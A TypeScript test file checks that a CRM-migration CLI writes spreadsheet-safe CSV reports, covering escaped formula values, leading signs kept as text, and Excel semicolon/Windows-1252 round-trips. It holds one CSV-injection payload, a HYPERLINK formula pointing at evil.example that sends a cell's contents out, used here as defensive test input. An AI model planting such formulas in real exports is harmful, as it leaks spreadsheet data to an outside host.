import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import iconv from 'iconv-lite';
import { describe, expect, it } from 'vitest';
import { runCliAsync } from '../run-cli.js';
import { companies, engagement, jsonResult, OWNER, writeExport } from './small-engagement.js';

type Row = Record<string, string>;

/** The cells as a spreadsheet shows them. */
function cells(path: string): Row[] {
  return parse(readFileSync(path), { columns: true, bom: true }) as Row[];
}

/** What Excel writes on "Save as" CSV in a German locale: `;` between cells, CRLF, Windows-1252, cells as shown. */
function excelSave(path: string, rows: Row[]): void {
  const headers = Object.keys(rows[0] as Row);
  const cell = (v: string): string => (/[;"\r\n]/.test(v) ? `"${v.replaceAll('"', '""')}"` : v);
  const text = [headers.join(';'), ...rows.map((r) => headers.map((h) => cell(r[h] ?? '')).join(';'))].join('\r\n') + '\r\n';
  writeFileSync(path, iconv.encode(text, 'windows-1252'));
}

interface Report {
  loads: { load: string; created: number; held: number }[];
}

describe('CSV files a person opens in a spreadsheet', () => {
  it('given hostile values, every report and queue shows them as text; the owner queue has one row per owner; answers saved by Excel with ; in Windows-1252 load exactly those rows', async () => {
    const root = mkdtempSync(join(tmpdir(), 'spreadsheet-reports-'));
    const exportDir = join(root, 'export');
    const evilOwner = '=HYPERLINK("http://evil.example/?"&A1)';
    const accounts: Record<string, string>[] = [
      ...companies(2),
      // three companies of an owner no destination user matches
      ...companies(3, 200).map((c) => ({ ...c, 'Owner Email': evilOwner })),
      { ...(companies(1, 300)[0] as Record<string, string>), 'Company ID': '-07' },
    ];
    const contacts = [
      { 'Contact ID': '1', 'First Name': 'Zoë', 'Last Name': 'Müller', Email: 'zoe@example.org', 'Company ID': '+44', 'Owner Email': OWNER, 'Created Date': '01/02/2024 10:00' },
      { 'Contact ID': '2', 'First Name': 'Tom', 'Last Name': 'Lee', Email: 'tom@example.org', 'Company ID': '100', 'Owner Email': evilOwner, 'Created Date': '01/02/2024 10:00' },
    ];
    writeExport(exportDir, { companies: accounts, contacts });
    const project = engagement(join(root, 'engagement'), exportDir);

    const first = await runCliAsync(['apply', '--project', project, '--json']);
    expect(first.exitCode, first.stderr).toBe(0);
    expect(jsonResult<Report>(first.stdout).loads.slice(0, 2).map((l) => [l.load, l.created, l.held])).toEqual([['accounts', 3, 3], ['contacts', 0, 2]]);

    const exceptions = cells(join(project, 'runs', '1', 'exceptions.csv'));
    expect(exceptions.map((e) => e['value']).sort()).toEqual([`'${evilOwner}`, `'${evilOwner}`, `'${evilOwner}`, `'${evilOwner}`, "'+44"].sort());
    const orphans = cells(join(project, 'queues', 'orphans.csv'));
    expect(orphans.map((o) => [o['load'], o['value']])).toEqual([['contacts', "'+44"]]);
    const owners = cells(join(project, 'queues', 'owners.csv'));
    expect(owners.map((o) => [o['owner'], o['records'], o['loads'], o['first_row']])).toEqual([[`'${evilOwner}`, '4', 'accounts: 3; contacts: 1', 'companies.csv:4']]);

    // The admin answers in Excel and saves with its defaults.
    excelSave(join(project, 'queues', 'owners.csv'), owners.map((o) => ({ ...o, resolution: OWNER })));
    excelSave(join(project, 'queues', 'orphans.csv'), orphans.map((o) => ({ ...o, resolution: '101' })));
    const second = await runCliAsync(['apply', '--project', project, '--json']);
    expect(second.exitCode, second.stderr).toBe(0);
    expect(jsonResult<Report>(second.stdout).loads.slice(0, 2).map((l) => [l.load, l.created, l.held])).toEqual([['accounts', 3, 0], ['contacts', 2, 0]]);

    // A delta over an export without the company keyed `-07`: removed.csv shows the key as text (a spreadsheet would read it as -7).
    writeExport(exportDir, { companies: accounts.filter((a) => a['Company ID'] !== '-07'), contacts });
    const delta = await runCliAsync(['apply', '--delta', '--project', project, '--json']);
    expect(delta.exitCode, delta.stderr).toBe(0);
    const removed = cells(join(project, 'runs', '3', 'removed.csv'));
    expect(removed.map((r) => [r['load'], r['source_key']])).toEqual([['accounts', "'-07"]]);
  }, 180_000);
});
